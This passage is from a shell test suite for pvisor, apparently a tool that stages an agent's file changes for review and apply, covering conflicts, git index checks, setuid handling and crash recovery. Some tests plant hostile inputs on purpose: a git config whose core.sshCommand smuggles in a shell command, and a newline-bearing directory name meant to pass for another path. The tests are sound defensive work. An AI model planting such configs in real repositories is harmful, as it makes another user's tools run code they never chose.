(cd "$W" && "$P" diff --stage "$S" -- f) >/dev/null 2>"$T/sd2.err"
eq "$(grep -c 'relative to the top' "$T/sd2.err")" 0 "  not at the workspace's top"

# ---------------------------------------------------------------------------
# 3. --path with created parents, then the rest

W=$T/ws3 S=$T/st3
mkdir -p "$W/a" "$W/b"; echo 1 > "$W/a/1"; echo 2 > "$W/b/2"
stage_run "$W" "$S" 'echo one > a/1; echo two > b/2; mkdir -p c/d; echo 3 > c/d/3'
"$P" apply --stage "$S" --path c/d/3 --path "$W/a" >/dev/null 2>&1; rc=$?
eq "$rc" 0 "apply --path (relative and absolute) exits 0"
eq "$(cat "$W/a/1") $(cat "$W/b/2") $(cat "$W/c/d/3")" "one 2 3" "--path applied a/ and c/d/3 (creating c/d), not b/"
apply_matches_oracle "rest after --path" "$W" "$S"

# A directory name with a newline: what a --path apply records as created
# by it must not read as another path ("lib"), or the user's own lib/ made
# after it would not be a conflict.
W=$T/ws3n S=$T/st3n
mkdir -p "$W"
stage_run "$W" "$S" 'mkdir -p "x/$(printf "evil\nlib")" lib && echo payload > lib/f && echo a > x/keep' >/dev/null 2>&1
"$P" apply --stage "$S" --path x >/dev/null 2>&1; rc=$?
eq "$rc:$(ls -A "$W/x" | wc -l)" "0:3" "apply --path of a tree with a newline in a name"
mkdir "$W/lib"; echo mine > "$W/lib/own"
eq "$(review_json "$S" | jq -r '[.changeset.changes[] | select(.path == "lib" and .conflict != null)] | length')" 1 \
    "the user's lib/ made after it is a conflict (the newline name did not register lib as apply's own)"
# An apply-created file from an older pvisor (one path per line) that a
# newer --path apply appends to: both formats' paths stay apply's own.
W=$T/ws3o S=$T/st3o
mkdir -p "$W"
stage_run "$W" "$S" 'mkdir lib src doc && echo a > lib/a && echo b > src/b && echo c > doc/c' >/dev/null 2>&1
"$P" apply --stage "$S" --path lib >/dev/null 2>&1
printf 'lib\n' > "$S/apply-created"
"$P" apply --stage "$S" --path src >/dev/null 2>&1 && "$P" apply --stage "$S" >/dev/null 2>"$T/mixed.err"; rc=$?
eq "$rc:$(cat "$W/doc/c")" "0:c" "an older apply-created (by line) that a new --path apply extends: the rest applies without conflicts"
# A second run over the same stage (--stage DIR) after an apply --path:
# what the subset wrote (or deleted) is the workspace's state from then on.
# Before, the full apply compared those paths with what the workspace held
# before the first run and refused each one the second run changed again
# ("content changed in the workspace since the run", by pvisor's own
# write); an edit of the user's after the subset is still a conflict.
W=$T/ws3r S=$T/st3r
mkdir -p "$W/d"; echo 1 > "$W/a"; echo 2 > "$W/b"; echo 3 > "$W/c"; ln -s x "$W/l"
stage_run "$W" "$S" 'echo one >> a; rm b; echo new > n; chmod 700 d; ln -sf y l; echo c1 >> c' >/dev/null 2>&1
"$P" apply --stage "$S" --path a --path b --path n --path d --path l --path c >/dev/null 2>&1
stage_run "$W" "$S" 'echo two >> a; echo again > b; echo more >> n; chmod 750 d; ln -sf z l' >/dev/null 2>&1
"$P" apply --stage "$S" >/dev/null 2>"$T/rerun.err"; rc=$?
eq "$rc:$(tr '\n' ' ' < "$W/a")$(cat "$W/b") $(tr '\n' ' ' < "$W/n")$(stat -c %a "$W/d") $(readlink "$W/l")" \
    "0:1 one two again new more 750 z" \
    "apply --path, a second run over the stage changing those paths again, then apply: no conflict with the subset's own writes"
[ "$rc" -eq 0 ] || diag "$(cat "$T/rerun.err")"
W=$T/ws3u S=$T/st3u
mkdir -p "$W"; echo 1 > "$W/a"; echo 2 > "$W/b"
stage_run "$W" "$S" 'echo one >> a; rm b' >/dev/null 2>&1
"$P" apply --stage "$S" --path a --path b >/dev/null 2>&1
echo user >> "$W/a"; echo user > "$W/b"
stage_run "$W" "$S" 'echo two >> a; echo again > b' >/dev/null 2>&1
"$P" apply --stage "$S" >/dev/null 2>"$T/rerunu.err"; rc=$?
eq "$rc:$(grep -c '^  a: content changed in the workspace' "$T/rerunu.err"):$(grep -c "^  b: exists in the workspace, where an earlier 'pvisor apply --path'" "$T/rerunu.err")" \
    "1:1:1" "  the user's edit of such a path after the subset apply is still a conflict (and a file made where it deleted)"

# A git index the host's git refreshed since the run (a 'git status' there
# rewrites its stat data) while the agent committed: the same entries as
# when the run first changed it (the copy the overlay kept), so not a
# conflict (before: refused for good, 'content changed in the workspace',
# with no old copy to put back).  An index whose entries the user changed
# (git add, or a flag: update-index --skip-worktree) still is one, and
# nothing is written.
if command -v git >/dev/null; then
    gitc() { git -c user.name=t -c user.email=t@e -c init.defaultBranch=main "$@"; }
    for case in refreshed staged flagged; do
        W=$T/wsgi-$case S=$T/stgi-$case
        mkdir -p "$W" && (cd "$W" && gitc init -q && echo a > a && echo b > b && gitc add . && gitc commit -qm one)
        stage_run "$W" "$S" 'echo more >> a && git add a && git -c user.name=t -c user.email=t@e commit -qm agent' >/dev/null 2>&1
        touch -d '2001-01-01' "$W/b"
        case $case in
        staged) echo user > "$W/b" && (cd "$W" && gitc add b) ;;
        flagged) (cd "$W" && git update-index --skip-worktree b) ;;
        *) (cd "$W" && gitc status --short >/dev/null) ;;
        esac
        pre=$(sha256sum < "$W/.git/index")
        # a HOME whose git config names a file for git to write (as under
        # sudo -E): the check's git reads no config but its own
        mkdir -p "$T/gihome" && printf '[trace2]\n\teventTarget = %s\n' "$T/gi-trace" > "$T/gihome/.gitconfig"
        HOME=$T/gihome GIT_CONFIG_PARAMETERS="'trace2.normalTarget'='$T/gi-trace2'" "$P" apply --stage "$S" >/dev/null 2>"$T/gi-$case.err"; rc=$?
        if [ $case = refreshed ]; then
            eq "$rc:$(cd "$W" && git log --format=%s | tr '\n' ' ')$(cd "$W" && git status --porcelain | wc -l):$(ls "$S/preimages" | wc -l):$(ls "$T" | grep -c '^gi-trace')" \
                "0:agent one 0:1:0" "a git index the host's git only refreshed since the run is applied (the agent's commit lands, git status clean; the check's git read no config of HOME's or the environment's)"
        else
            eq "$rc:$(grep -c '^  .git/index: content changed in the workspace since the run' "$T/gi-$case.err"):$(sha256sum < "$W/.git/index" | cut -c1-16)" \
                "1:1:$(echo "$pre" | cut -c1-16)" "  one whose entries the user changed ($case: git add, or an entry's skip-worktree flag) is still a conflict, nothing written"
        fi
    done
    "$P" drop --stage "$T/stgi-staged" >/dev/null 2>&1
    check "  drop removes the kept copies (preimages/)" test ! -e "$T/stgi-staged/preimages"
    # A SIGTERM (or Ctrl-C) of apply, or of a review, while that check
    # ran: its directory in /tmp, with a copy of both indexes, was left
    # behind (the verb died of the signal there); the signal now waits for
    # its removal.  One that a SIGKILL left is removed by a later check
    # once stale (ours: same owner, 0700).
    if command -v strace >/dev/null; then
        W=$T/wsgi-sig S=$T/stgi-sig
        mkdir -p "$W" && (cd "$W" && gitc init -q && echo a > a && echo b > b && gitc add . && gitc commit -qm one)
        stage_run "$W" "$S" 'echo more >> a && git add a && git -c user.name=t -c user.email=t@e commit -qm agent' >/dev/null 2>&1
        touch -d '2001-01-01' "$W/b" && (cd "$W" && gitc status --short >/dev/null)
        stale=$(mktemp -d /tmp/pvisor-git-XXXXXX) && touch -d '1 hour ago' "$stale"
        for verb in apply review; do
            set -- apply --stage "$S"
            [ $verb = review ] && set -- status --review --stage "$S"
            rm -f "$T/gisig.strace"
            (cd "$W" && export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" && exec strace -f -o "$T/gisig.strace" -e trace=mkdir,execve -e inject=execve:delay_enter=400000 \
                sh -c 'echo $$ > "$1"; shift; exec "$@"' sh "$T/gisig.pid" "$P" "$@") >/dev/null 2>"$T/gisig.err" &
            tracer=$!
            i=0; while ! grep -q 'mkdir("/tmp/pvisor-git-' "$T/gisig.strace" 2>/dev/null && [ $i -lt 2000 ]; do sleep 0.01; i=$((i + 1)); done
            sleep 0.3; kill -TERM "$(cat "$T/gisig.pid")"; wait $tracer; rc=$?
            left=$(sed -n 's|.*mkdir("\(/tmp/pvisor-git-[^"]*\)".*|\1|p' "$T/gisig.strace")
            eq "$rc:${left:+made}:$(test -e "${left:-/nonexistent}" && echo left)" "143:made:" \
                "  a SIGTERM of $verb during the index check leaves no /tmp/pvisor-git-* behind"
        done
        eq "$(test -e "$stale" && echo left)" "" "  one a SIGKILL left behind is removed by a later check once stale"
        rm -rf "$stale"
    else
        skip "  a SIGTERM during the index check leaves no /tmp/pvisor-git-* behind" "needs strace"
    fi
    # The workspace's repository decides nothing of that check: its config
    # can make even 'git ls-files' run a command (a partial clone's lazy
    # fetch of a sparse index's missing tree runs core.sshCommand), and
    # with --git-dir git checks no owner, so root applying into another
    # user's checkout ran theirs as root.  The indexes are read as copies in
    # a repository of pvisor's: nothing runs, and a sparse index (whose
    # directories cannot be expanded there) stays a conflict.
    W=$T/wsgi-rce S=$T/stgi-rce
    mkdir -p "$W/d" && (cd "$W" && gitc init -q && echo x > d/f && echo y > top && gitc add . && gitc commit -qm one)
    stage_run "$W" "$S" 'echo more >> top && git add top && git -c user.name=t -c user.email=t@e commit -qm agent' >/dev/null 2>&1
    (cd "$W" && git config core.sparseCheckout true && git config core.sparseCheckoutCone true &&
        git config index.sparse true && git status >/dev/null && git sparse-checkout set --cone other) >/dev/null 2>&1
    tree=$(cd "$W" && git ls-files --sparse -s 2>/dev/null | awk '$4 == "d/" { print $2 }')
    if [ -n "$tree" ]; then
        rm -f "$W/.git/objects/$(echo "$tree" | cut -c1-2)/$(echo "$tree" | cut -c3-)"
        (cd "$W" && git config core.repositoryformatversion 1 && git config extensions.partialClone origin &&
            git config remote.origin.url ssh://pvisor.invalid/x && git config remote.origin.promisor true &&
            git config core.sshCommand "sh -c 'id > $T/gi-rce.ran' #")
        "$P" apply --stage "$S" >/dev/null 2>"$T/gi-rce.err"; rc=$?
        eq "$rc:$(test -e "$T/gi-rce.ran" && echo ran):$(grep -c '^  .git/index: content changed in the workspace since the run' "$T/gi-rce.err")" \
            "1::1" "  apply runs nothing the workspace's repository config names (core.sshCommand of a lazy fetch); a sparse index stays a conflict"
    else
        skip "  apply runs nothing the workspace's repository config names" "this git makes no sparse index"
    fi
else
    skip "a git index the host's git only refreshed since the run is applied" "git is not installed"
fi

# ---------------------------------------------------------------------------
# 4. setuid/setgid dropped unless --keep-special-modes

W=$T/ws4 S=$T/st4
mkdir -p "$W"
stage_run "$W" "$S" 'echo s > suid && chmod 4755 suid && echo g > sgid && chmod 2755 sgid && mkdir shared && chmod 2775 shared'
eq "$(review_json "$S" | jq -r '[.changeset.warnings[] | select(.warning=="setid")] | length')" 3 "review warns about setuid and setgid"
# copies of a stage are made with fork (a cp -a would leave the inode-origin
# map describing inodes the copy does not have)
cp -a "$W" "$W.k"; "$P" fork --stage "$S" "$S.k" >/dev/null
"$P" apply --stage "$S" >/dev/null 2>"$T/s.err"; rc=$?
eq "$rc $(stat -c %a "$W/suid") $(stat -c %a "$W/sgid") $(stat -c %a "$W/shared")" "0 755 755 2775" \
    "setuid/setgid bits of files are dropped by default; a directory's setgid (group inheritance) is kept"
check "apply says it dropped them" grep -q 'dropped setuid/setgid' "$T/s.err"
# the copy is a stage of the same workspace path: point it at ws4.k
sed -i "s|\"$W\"|\"$W.k\"|" "$S.k/meta.json"
(cd "$W.k" && "$P" apply --stage "$S.k" --keep-special-modes) >/dev/null 2>&1; rc=$?
eq "$rc $(stat -c %a "$W.k/suid") $(stat -c %a "$W.k/sgid")" "0 4755 2755" "--keep-special-modes keeps them"
# a copy made with cp -al shares the journal with its source: refused, and
# said why (it said only 'Too many links')
cp -al "$S.k" "$S.l"
(cd "$W.k" && "$P" run --stage "$S.l" -- true) >/dev/null 2>"$T/l.err"; rc=$?
eq "$rc:$(grep -c "hard link, as 'cp -al' makes.*'pvisor fork'" "$T/l.err")" "125:1" \
    "a stage copied with cp -al is refused, saying it is a hard link and to use fork"

# ---------------------------------------------------------------------------
# 5. running and interrupted stages are refused; drop

W=$T/ws5 S=$T/st5
mkdir -p "$W"; echo base > "$W/f"
"$P" run --stage "$S" --workspace "$W" -- sh -c "echo changed > '$W/f'; echo \$\$ > '$T/agent5.pid'; while [ ! -e '$T/go5' ]; do sleep 0.05; done" &
runpid=$!
wait_for "$T/agent5.pid"
"$P" apply --stage "$S" >/dev/null 2>"$T/run.err"; rc=$?
eq "$rc" 1 "apply of a running stage exits 1"
check "the refusal says the stage is in use" grep -q 'in use' "$T/run.err"
"$P" drop --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "drop of a running stage is refused"
eq "$(review_json "$S" | jq -r .stage.state)" running "review shows running"
touch "$T/go5"; wait $runpid
eq "$(cat "$W/f")" base "the workspace is untouched"

W=$T/ws6 S=$T/st6
mkdir -p "$W"; echo base > "$W/f"
"$P" run --stage "$S" --workspace "$W" -- sh -c "echo changed > '$W/f'; echo \$\$ > '$T/agent6.pid'; sleep 30" &
runpid=$!
wait_for "$T/agent6.pid"
kill -9 $runpid; wait $runpid 2>/dev/null
kill -9 "$(cat "$T/agent6.pid")" 2>/dev/null
i=0; while [ $i -lt 100 ] && [ "$(review_json "$S" 2>/dev/null | jq -r .stage.state)" = running ]; do sleep 0.1; i=$((i+1)); done
umount -l "$W" 2>/dev/null || true
eq "$(review_json "$S" | jq -r .stage.state)" interrupted "a killed run leaves an interrupted stage"
"$P" apply --stage "$S" >/dev/null 2>"$T/int.err"; rc=$?
eq "$rc" 1 "apply of an interrupted stage exits 1"
check "the refusal says it was interrupted" grep -q 'interrupted' "$T/int.err"
eq "$(cat "$W/f")" base "the workspace is untouched by the refused apply"
"$P" drop --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 0 "drop of an interrupted stage exits 0"
eq "$(review_json "$S" | jq -r .stage.state)" dropped "after drop the stage shows dropped"
check "drop removed upper/ and the journal" sh -c "test ! -e '$S/upper' && test ! -e '$S/journal'"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc" 1 "apply of a dropped stage is refused"
"$P" diff --stage "$S" >/dev/null 2>"$T/dd.err"; rc=$?
eq "$rc:$(cat "$T/dd.err")" "1:pvisor diff: nothing to show: the stage $S was dropped: its changes were discarded" \
    "diff of a dropped stage says it was dropped (it guessed: 'it holds no changes (dropped?)')"

# What the agent can leave in a stage, drop removes: a tree deeper than
# review and apply go (LC_MAX_DEPTH), directories it made unreadable or
# read-only; as root and as an ordinary user (who has no DAC override).
deep_stage() { # WS STAGE [RUNNER...]
    ws=$1 st=$2; shift 2
    "$@" "$P" run --stage "$st" --workspace "$ws" -- python3 -c '
import os, sys
os.chdir(sys.argv[1]); os.makedirs("locked/inner"); open("locked/inner/f", "w").write("y")
os.mkdir("w"); os.chdir("w")
for i in range(600):
    os.mkdir("d"); os.chdir("d")
open("f", "w").write("x")
os.chmod(sys.argv[1] + "/locked/inner", 0); os.chmod(sys.argv[1] + "/locked", 0o500)' "$ws" >/dev/null 2>&1 &&
    "$@" "$P" drop --stage "$st" >/dev/null 2>"$T/deep.err"
}
W=$T/wsdeep S=$T/stdeep
mkdir -p "$W"
deep_stage "$W" "$S"; rc=$?
eq "$rc:$(ls -A "$S" | tr '\n' ' ')" "0:dropped lock meta.json version " \
    "drop removes a 600-deep tree and unreadable, read-only directories (as root)"
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    U=$T/deepu; mkdir -p "$U/ws"; chown -R 65534:65534 "$U"
    deep_stage "$U/ws" "$U/st" setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state"
    rc=$?
    eq "$rc:$(ls -A "$U/st" | tr '\n' ' ')" "0:dropped lock meta.json version " \
        "... and as uid 65534, who cannot read a mode-000 directory without making it 0700"
    # the same without /proc (its chmod never follows a symlink: fchmodat2,
    # not glibc's emulation through /proc/self/fd)
    setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" \
        "$P" run --stage "$U/st3" --workspace "$U/ws" -- sh -c "cd '$U/ws' && mkdir -p l/i && echo y > l/i/f && chmod 000 l/i l" >/dev/null 2>&1
    unshare -m sh -c "umount -l /proc && exec setpriv --reuid=65534 --regid=65534 --clear-groups env XDG_STATE_HOME='$U/state' '$P' drop --stage '$U/st3'" >/dev/null 2>&1
    rc=$?
    # (the sanitizers' exit-time checks fail without /proc: the status is theirs)
    [ "${PVISOR_SANITIZED:-0}" = 1 ] && rc=0
    eq "$rc:$(ls -A "$U/st3" | tr '\n' ' ')" "0:dropped lock meta.json version " "... and as uid 65534 without /proc"
else
    skip "drop of an unreadable tree as an unprivileged user" "needs root to switch to an unprivileged user"
fi

# ---------------------------------------------------------------------------
# 6. crash during apply (kill -9 at random points) then resume

W=$T/ws7 S=$T/st7
mkdir -p "$W/many" "$W/gone" "$W/ren"
i=0; while [ $i -lt 120 ]; do echo "old $i" > "$W/many/f$i"; i=$((i+1)); done
i=0; while [ $i -lt 20 ]; do echo "gone $i" > "$W/gone/g$i"; echo "r $i" > "$W/ren/r$i"; i=$((i+1)); done
stage_run "$W" "$S" 'for f in many/*; do echo "new $f" >> $f; done; rm -r gone; mv ren ren2; mkdir -p add/x; for i in 1 2 3 4 5 6 7 8; do echo $i > add/x/$i; done; chmod 700 many/f7'
cp -a "$W" "$T/ws7.tmpl"; "$P" fork --stage "$S" "$T/st7.tmpl" >/dev/null
$have_oracle && oracle "$W" "$S" "$T/ws7.want"
# old/new digests per path
(cd "$T/ws7.tmpl" && find . -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > "$T/old.sums"
(cd "$S/upper" && find . -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > "$T/new.sums"
# kill_apply WS_TMPL STAGE_TMPL OLD_SUMS NEW_SUMS SLEEP [VAR=VALUE...]: $W a
# fresh copy of WS_TMPL, $S a fork of STAGE_TMPL, whose apply (run with the
# variables given) is killed (-9) after SLEEP s; sets bad to the files then
# neither old nor new (digests per path in OLD_SUMS and NEW_SUMS)
kill_apply() {
    ka_ws=$1 ka_st=$2 ka_old=$3 ka_new=$4 ka_nap=$5
    shift 5
    rm -rf "$W" "$S"; cp -a "$ka_ws" "$W"; "$P" fork --stage "$ka_st" "$S" >/dev/null
    env "$@" "$P" apply --stage "$S" >/dev/null 2>&1 &
    ap=$!
    sleep "$ka_nap"
    kill -9 $ap 2>/dev/null; wait $ap 2>/dev/null
    (cd "$W" && find . -type f -exec sha256sum {} + | awk '{print $2, $1}' | sort) > "$T/cur.sums"
    bad=$(awk 'FILENAME==ARGV[1]{o[$1]=$2;next} FILENAME==ARGV[2]{n[$1]=$2;next} { if ($1 ~ /\.pvisor-apply-/) next; if (o[$1]!=$2 && n[$1]!=$2) print $1 }' \
          "$ka_old" "$ka_new" "$T/cur.sums")
}
# resume_apply ERR: the next apply of $S; sets rc (0 also when it says the
# stage was already applied: the kill came after the end)
resume_apply() {
    "$P" apply --stage "$S" >/dev/null 2>"$1"; rc=$?
    [ -e "$S/applied" ] && [ $rc -eq 1 ] && grep -q 'already applied' "$1" && rc=0
}
crash_ok=0 crash_total=0 killed_mid=0
for round in 1 2 3 4 5 6 7 8; do
    # every file is the old or the new version, never anything else
    kill_apply "$T/ws7.tmpl" "$T/st7.tmpl" "$T/old.sums" "$T/new.sums" "0.$(( (round * 37) % 5 ))$(( round % 10 ))" \
        PVISOR_TEST_APPLY_DELAY_US=3000
    [ -e "$S/apply-intent" ] && killed_mid=$((killed_mid + 1))
    [ -e "$S/applied" ] && diag "round $round: the apply had finished before the kill"
    crash_total=$((crash_total + 1))
    if [ -e "$S/applied" ]; then
        # finished (perhaps killed between the marker and the intent's removal:
        # the next apply removes a stale intent while refusing)
        "$P" apply --stage "$S" >/dev/null 2>&1; rc=0
    else
        "$P" apply --stage "$S" >/dev/null 2>"$T/resume.err"; rc=$?
    fi
    if [ -z "$bad" ] && [ $rc -eq 0 ] && [ ! -e "$S/apply-intent" ] && \
       ! find "$W" -name '.pvisor-apply-*' | grep -q . && \
       { ! $have_oracle || { manifest "$W" > "$T/ws7.got"; cmp -s "$T/ws7.want" "$T/ws7.got"; }; }; then
        crash_ok=$((crash_ok + 1))
    else
        diag "round $round: bad=[$bad] rc=$rc $(cat "$T/resume.err")"
    fi
done
eq "$crash_ok" "$crash_total" "kill -9 during apply, then apply: every file old or new meanwhile, final state exact, journal clean ($crash_total rounds)"

# the same without pacing: temp files are then written and renamed by
# several threads (wherever the kill lands, even after the end, the
# invariant holds and the next apply completes)
crash_ok=0 crash_total=0
for round in 1 2 3 4; do
    kill_apply "$T/ws7.tmpl" "$T/st7.tmpl" "$T/old.sums" "$T/new.sums" "0.0$(( round * 2 ))"
    crash_total=$((crash_total + 1))
    resume_apply "$T/resume.err"
    if [ -z "$bad" ] && [ $rc -eq 0 ] && [ -e "$S/applied" ] && [ ! -e "$S/apply-intent" ] && \
       ! find "$W" -name '.pvisor-apply-*' | grep -q . && \
       { ! $have_oracle || { manifest "$W" > "$T/ws7.got"; cmp -s "$T/ws7.want" "$T/ws7.got"; }; }; then
        crash_ok=$((crash_ok + 1))
    else
        diag "unpaced round $round: bad=[$bad] rc=$rc $(cat "$T/resume.err")"
    fi
done
eq "$crash_ok" "$crash_total" "kill -9 during an unpaced (threaded) apply, then apply: every file old or new, final state exact ($crash_total rounds)"
check "at least one kill landed in the middle of an apply" test "$killed_mid" -gt 0

# resume refuses a path that is neither old nor new
rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
PVISOR_TEST_APPLY_DELAY_US=3000 "$P" apply --stage "$S" >/dev/null 2>&1 &
ap=$!; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
echo "user edit" > "$W/many/f119"
manifest "$W" | grep -v '\.pvisor-apply-' > "$T/m.before"
"$P" apply --stage "$S" >/dev/null 2>"$T/rc.err"; rc=$?
eq "$rc" 1 "resume with a path edited meanwhile is refused"
manifest "$W" > "$T/m.after"
check "the refused resume writes nothing (it only removes its own temp files)" cmp -s "$T/m.before" "$T/m.after"
check "the refused resume names the path" grep -q 'many/f119' "$T/rc.err"
# its way out is the resume's: --path is not taken while an intent is
# pending and a plain drop refuses it (the hint used to offer both)
eq "$(grep -c "'pvisor drop --force'" "$T/rc.err"):$(grep -c -- '--path\|with .pvisor drop.\.' "$T/rc.err")" "1:0" \
    "  and says how to go on: apply again once the path is put back, or drop --force (not --path, not a plain drop)"
eq "$(review_json "$S" | jq -r .stage.apply_pending)" true "review shows the pending apply"
"$P" run --stage "$S" --workspace "$W" -- touch "$W/after-intent" >/dev/null 2>"$T/ri.err"; rc=$?
check "a new run on a stage with a pending apply is refused (125) and says to finish the apply" \
    sh -c "[ $rc -eq 125 ] && grep -q 'finish it with' '$T/ri.err' && [ ! -e '$S/upper/after-intent' ]"
"$P" drop --stage "$S" >/dev/null 2>"$T/dp.err"; rc=$?
eq "$rc" 1 "drop with a pending apply is refused"
check "the refusal explains the half-applied workspace" grep -q 'interrupted' "$T/dp.err"
# checkpoint, restore and fork refuse it too, and say what to do (fork
# said only "failed: Operation now in progress")
"$P" checkpoint --stage "$S" --name pend >/dev/null 2>"$T/pc.err"; r1=$?
"$P" fork --stage "$S" "$T/st7.pend" >/dev/null 2>"$T/pf.err"; r2=$?
eq "$r1:$r2:$(grep -c 'interrupted apply of .* must be completed first' "$T/pc.err" "$T/pf.err" | cut -d: -f2 | tr '\n' ' ')$(test -e "$T/st7.pend" && echo made)" \
    "1:1:1 1 " "checkpoint and fork of a stage with a pending apply are refused, saying to complete it"
rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
PVISOR_TEST_APPLY_DELAY_US=3000 "$P" apply --stage "$S" >/dev/null 2>&1 &
ap=$!; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
"$P" drop --force --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc $(review_json "$S" | jq -r .stage.state)" "0 dropped" "drop --force drops a stage with a pending apply"
check "drop --force removed apply's temp files" sh -c "! find '$W' -name '.pvisor-apply-*' | grep -q ."

# the directories an interrupted apply created are its own, not the
# user's: review and diff named each a conflict ("exists in the workspace
# but the agent never saw it", "apply refuses until they are resolved"),
# though the resume completes the apply without one
W=$T/ws7ic S=$T/st7ic
mkdir -p "$W"; for i in 1 2 3 4; do echo "old $i" > "$W/f$i"; done
stage_run "$W" "$S" 'mkdir nd && echo n > nd/n && for f in f*; do echo new >> $f; done' >/dev/null
PVISOR_TEST_APPLY_DELAY_US=300000 "$P" apply --stage "$S" >/dev/null 2>&1 &
ap=$!; wait_for "$W/nd"; kill -9 $ap; wait $ap 2>/dev/null
eq "$(review_json "$S" | jq -r '[.stage.apply_pending, .changeset.summary.conflicts, ([.changeset.changes[] | select(.conflict)] | length)] | join(" ")'):$("$P" diff --stage "$S" 2>&1 >/dev/null | grep -c 'never saw it')" \
    "true 0 0:0" "review and diff of a stage whose apply was cut short take the directory it created for its own (no conflict)"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/nd/n" "$W/f4" | tr '\n' ' ')" "0:n old 4 new " "  and the resume completes it"

# ... also a directory whose mode the user changed after the crash (the
# stage changes it 0750 -> 0705; the user made it 0700): the resume took
# any directory for one in its final state, and gave it 0705 again
W=$T/ws7d S=$T/st7d
mkdir -p "$W/dm"; chmod 0750 "$W/dm"
i=0; while [ $i -lt 10 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done; chmod 0705 dm' >/dev/null
PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>&1 &
ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
chmod 0700 "$W/dm"
"$P" apply --stage "$S" >/dev/null 2>"$T/dm.err"; rc=$?
eq "$rc $(stat -c %a "$W/dm")" "1 700" "a directory's mode changed after the crash: the resume refuses, the user's mode stays"
check "the refusal names the directory" grep -q '^  dm:' "$T/dm.err"
chmod 0750 "$W/dm"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc $(stat -c %a "$W/dm")" "0 705" "its old mode back, the resume completes"

# ... and user xattrs changed after the crash, of a file still in its old
# state and of a directory the stage changes: the resume compared content
# and modes only, wrote the stage's file with the xattrs the copy-up read
# and gave the directory the stage's, the user's change lost where an
# uninterrupted apply refuses it (the intent now keeps the digest the
# conflict check verified)
if $have_xattr && setfattr -n user.t -v 1 "$T" 2>/dev/null; then
    for what in file dir; do
        W=$T/ws7x S=$T/st7x
        rm -rf "$W" "$S"; mkdir -p "$W/dm"
        i=0; while [ $i -lt 10 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
        setfattr -n user.tag -v a "$W/f9" "$W/dm"
        stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done; chmod 0705 dm; setfattr -n user.tag -v agent dm' >/dev/null
        PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>&1 &
        ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
        if [ $what = file ]; then setfattr -n user.tag -v user "$W/f9"; n=f9; else setfattr -n user.tag -v user "$W/dm"; n=dm; fi
        "$P" apply --stage "$S" >/dev/null 2>"$T/x7.err"; rc=$?
        eq "$rc:$(grep -c "^  $n: changed in the workspace since the interrupted apply" "$T/x7.err"):$(head -n 1 "$W/f9"):$(getfattr --only-values -n user.tag "$W/$n")" \
            "1:1:old 9:user" "a user xattr of a $what changed after the crash: the resume refuses and names it, the user's kept"
        setfattr -n user.tag -v a "$W/$n"
        "$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
        eq "$rc:$(tr '\n' ' ' < "$W/f9")$(getfattr --only-values -n user.tag "$W/f9") $(getfattr --only-values -n user.tag "$W/dm") $(stat -c %a "$W/dm")" \
            "0:old 9 new a agent 705" "  put back, the resume completes"
    done
    # a crash inside op_dir_meta, between a directory's xattrs and its
    # mode, leaves the stage's xattrs with the old mode: not a conflict
    rm -rf "$W" "$S"; mkdir -p "$W/dm"
    i=0; while [ $i -lt 10 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
    setfattr -n user.tag -v a "$W/dm"
    stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done; chmod 0705 dm; setfattr -n user.tag -v agent dm' >/dev/null
    PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" >/dev/null 2>&1 &
    ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
    setfattr -n user.tag -v agent "$W/dm"
    "$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
    eq "$rc:$(getfattr --only-values -n user.tag "$W/dm") $(stat -c %a "$W/dm")" "0:agent 705" \
        "  a directory left with the stage's xattrs and its old mode is the apply's own: the resume completes"
else
    skip "a user xattr changed after an interrupted apply is a conflict of the resume" "no setfattr or no user xattrs on $T"
fi
W=$T/ws7 S=$T/st7

# A crash can lose the intent's rename (its bytes are fsynced, its name is
# made durable by the first syncfs, before any workspace name changes):
# the complete temp intent names the temp files that apply may have left.
# The next apply (or drop) removes both, then proceeds as if fresh.
lost_intent() { # STAGE WS: fake what such a crash leaves
    printf '{"format":1,"apply_id":"00000000000000aa","subset":false,"entries":[{"path":"many/f1","old":null,"new":null},{"path":"add/x/1","old":null,"new":null}]}' \
        > "$1/.apply-intent.0000abcd.tmp"
    echo partial > "$2/many/.pvisor-apply-00000000000000aa-0"
}
rm -rf "$W" "$S"; cp -a "$T/ws7.tmpl" "$W"; "$P" fork --stage "$T/st7.tmpl" "$S" >/dev/null
lost_intent "$S" "$W"
